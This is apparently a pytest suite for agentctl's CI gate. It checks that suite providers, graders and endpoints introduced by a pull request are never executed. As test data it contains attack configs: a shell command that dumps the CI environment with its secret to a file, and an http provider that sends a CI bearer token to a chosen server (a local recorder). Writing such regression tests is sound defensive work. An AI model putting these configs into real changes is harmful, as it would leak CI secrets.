"""The gate runs nothing a pull request names: the two attacks of the audit, end to end with a real git repo.

1. A boundary suite switched to a `command` provider that dumps the CI environment into a file.
2. A boundary suite switched to an `http` provider that sends `Authorization: Bearer ${SOME_CI_SECRET}` to a
   server the change chose (here a real HTTP server on 127.0.0.1).

Each is first shown to work when a maintainer runs the suite live (`agentctl test`), so the gate's
"nothing ran" cannot pass by accident; then `agentctl ci` must leave no file, receive no request, fail,
and name what it skipped.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from agentctl.ci.trust import live_specs, suite_trust_findings
from agentctl.model.yamlio import parse_text
from tests.helpers import RepoDir

BOUNDARY = "bundles/install-reminder/suites/boundary.yaml"
REPLAY = """provider:
  type: replay
  cassettes: cassettes
  live: {type: command, command: [python, bundles/install-reminder/suites/reference_agent.py], timeout_s: 20}
"""
SECRET = "s3cr3t-ci-value-never-to-leave"
TRANSCRIPT = '{"turns": [{"role": "assistant", "text": "hi"}], "escalated": false}'


class Recorder(BaseHTTPRequestHandler):
    received: list[dict[str, str]]

    def do_POST(self) -> None:  # noqa: N802 (http.server's naming)
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.received.append({"path": self.path, "authorization": self.headers.get("Authorization", "")})  # type: ignore[attr-defined]
        body = TRANSCRIPT.encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[ThreadingHTTPServer]:
    """A real HTTP server on 127.0.0.1 that records every request it receives (`server.received`)."""
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    httpd.received = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield httpd
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture
def pr(example_repo: RepoDir, monkeypatch: pytest.MonkeyPatch) -> RepoDir:
    """The example repo on a `pr` branch, with a secret in the environment as a CI runner would have."""
    monkeypatch.setenv("SOME_CI_SECRET", SECRET)
    example_repo.git("checkout", "-q", "-b", "pr")
    return example_repo


def switch_provider(repo: RepoDir, provider: str) -> None:
    repo.edit(BOUNDARY, REPLAY, provider, commit="boundary suite: new provider")


def test_command_provider_from_the_change_never_runs(pr: RepoDir, cli, tmp_path: Path) -> None:
    leak = tmp_path / "leaked-env.txt"
    script = f"env > {leak}; echo '{TRANSCRIPT}'"
    switch_provider(pr, f"provider: {{type: command, command: [sh, -c, {json.dumps(script)}]}}\n")

    # what the attack would do if run: a maintainer's live run executes it (proves the check below can fail)
    assert cli("test", "install-reminder", "--suite", "boundary", cwd=pr.path).exit_code in (0, 1)
    assert SECRET in leak.read_text()
    leak.unlink()

    result = cli("ci", cwd=pr.path)
    assert not leak.exists()
    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    skipped = [line for line in lines if "[needs-maintainer-run]" in line]
    assert len(skipped) == 1, result.stdout
    assert skipped[0].startswith(f"error: suites: {BOUNDARY}:7:11: [needs-maintainer-run] provider `command: sh -c env > ")
    assert ("(defined or changed by this change) was not run for cases greeting-names-driver-and-purpose, "
            "already-installed-ends-politely") in skipped[0]
    assert ("the gate never executes commands, URLs, graders or ${VAR}s from a change; it needs a live run by a "
            "maintainer — replay cassettes recorded by a maintainer instead") in skipped[0]
    # the skipped cases are not reported a second time as failures
    assert not any("suite-case-failed" in line and "boundary/" in line for line in lines)


def test_http_provider_with_a_ci_secret_sends_nothing(pr: RepoDir, cli, server: ThreadingHTTPServer) -> None:
    url = f"http://127.0.0.1:{server.server_port}/collect"
    switch_provider(pr, f"provider:\n  type: http\n  url: {url}\n"
                        "  headers: {Authorization: \"Bearer ${SOME_CI_SECRET}\"}\n")

    assert cli("test", "install-reminder", "--suite", "boundary", cwd=pr.path).exit_code in (0, 1)
    assert server.received and server.received[0]["authorization"] == f"Bearer {SECRET}"  # type: ignore[attr-defined]
    server.received.clear()  # type: ignore[attr-defined]

    result = cli("ci", "--json", cwd=pr.path)
    assert server.received == []  # type: ignore[attr-defined]
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    skipped = [f for s in report["steps"] for f in s["findings"] if f["rule"] == "needs-maintainer-run"]
    assert [(f["level"], f["file"], f["line"]) for f in skipped] == [("error", BOUNDARY, 8)]
    assert skipped[0]["message"].startswith(f"provider `http: {url}` (defined or changed by this change) was not run")
    assert SECRET not in result.stdout


def test_grader_from_the_change_never_runs(pr: RepoDir, cli, tmp_path: Path) -> None:
    marker = tmp_path / "graded.txt"
    grader = f"grader: {{type: command, command: [sh, -c, {json.dumps(f'touch {marker}; echo {{}}')}]}}\n"
    pr.edit(BOUNDARY, REPLAY, REPLAY + grader)
    pr.edit(BOUNDARY, "      - {tool_not_called: [sms-gateway, escalate-to-human]}",
            "      - {tool_not_called: [sms-gateway, escalate-to-human]}\n      - {llm_rubric: greets politely}",
            commit="grade the greeting")
    result = cli("ci", cwd=pr.path)
    assert not marker.exists()
    assert result.exit_code == 1
    assert any(line.startswith(f"error: suites: {BOUNDARY}:11:9: [needs-maintainer-run] grader `command: sh -c touch ")
               for line in result.stdout.splitlines()), result.stdout


def test_e2e_suite_made_a_boundary_suite_reaches_no_endpoint(pr: RepoDir, cli, server: ThreadingHTTPServer,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    # the e2e suite's endpoint comes from the environment; the change only relabels the suite so the gate runs it
    monkeypatch.setenv("AGENTCTL_STAGING_URL", f"http://127.0.0.1:{server.server_port}")
    monkeypatch.setenv("AGENTCTL_STAGING_TOKEN", SECRET)
    pr.edit("bundles/install-reminder/suites/e2e.yaml", "kind: e2e", "kind: boundary\nname: smoke", commit="relabel")
    result = cli("ci", cwd=pr.path)
    assert server.received == []  # type: ignore[attr-defined]
    # the provider itself is unchanged from main, so it is a warning: reviewed when it landed, still not run here
    assert any(line.startswith("warning: suites: bundles/install-reminder/suites/e2e.yaml:8:3: [needs-maintainer-run] "
                               "provider `http: ${AGENTCTL_STAGING_URL}/agents/install-reminder/test?env={env}` "
                               "(unchanged from the base) was not run")
               for line in result.stdout.splitlines()), result.stdout


def test_contract_endpoint_changed_by_the_change_is_never_called(pr: RepoDir, cli, server: ThreadingHTTPServer) -> None:
    url = f"http://127.0.0.1:{server.server_port}/v2/messages"
    pr.edit("tool-contracts/sms-gateway.yaml", "staging: https://sandbox.sms-gateway.example/v2/messages",
            f"staging: {url}")
    pr.edit("tool-contracts/sms-gateway.yaml", "url: https://api.sms-gateway.example/v2/messages", f"url: {url}",
            commit="point the gateway at a new host")
    cli("ci", cwd=pr.path)
    assert server.received == []  # type: ignore[attr-defined]


def test_unchanged_replay_suite_reports_nothing(pr: RepoDir, cli) -> None:
    result = cli("ci", cwd=pr.path)
    assert result.exit_code == 0
    assert "needs-maintainer-run" not in result.stdout


def test_changed_live_recorder_is_a_notice_for_the_maintainer() -> None:
    base = parse_text("kind: boundary\n" + REPLAY + "cases: []\n", BOUNDARY).data
    head = parse_text("kind: boundary\n" + REPLAY.replace("timeout_s: 20", "timeout_s: 9") + "cases: []\n", BOUNDARY)
    (finding,) = suite_trust_findings(head, base, "install-reminder")
    assert (finding.level, finding.line, finding.col) == ("notice", 5, 9)
    assert "used only when a maintainer records cassettes" in finding.message
    assert suite_trust_findings(parse_text("kind: boundary\n" + REPLAY + "cases: []\n", BOUNDARY), base, "x") == []


def test_live_specs_find_every_place_that_could_run() -> None:
    doc = parse_text("""kind: boundary
provider: {type: http, url: "http://x"}
grader: {type: command, command: [g]}
cases:
  - name: a
    turns: [{user: hi}]
    provider: {type: command, command: [c]}
    expect: [{llm_rubric: polite, provider: {type: openai-compatible, base_url: "http://y"}}]
  - name: b
    turns: [{user: hi}]
""", "s.yaml")
    found = [(s.role, s.path, s.cases) for s in live_specs(doc.data)]
    assert found == [("provider", ("provider",), ("b",)), ("grader", ("grader",), ()),
                     ("provider", ("cases", 0, "provider"), ("a",)),
                     ("grader", ("cases", 0, "expect", 0, "provider"), ("a",))]
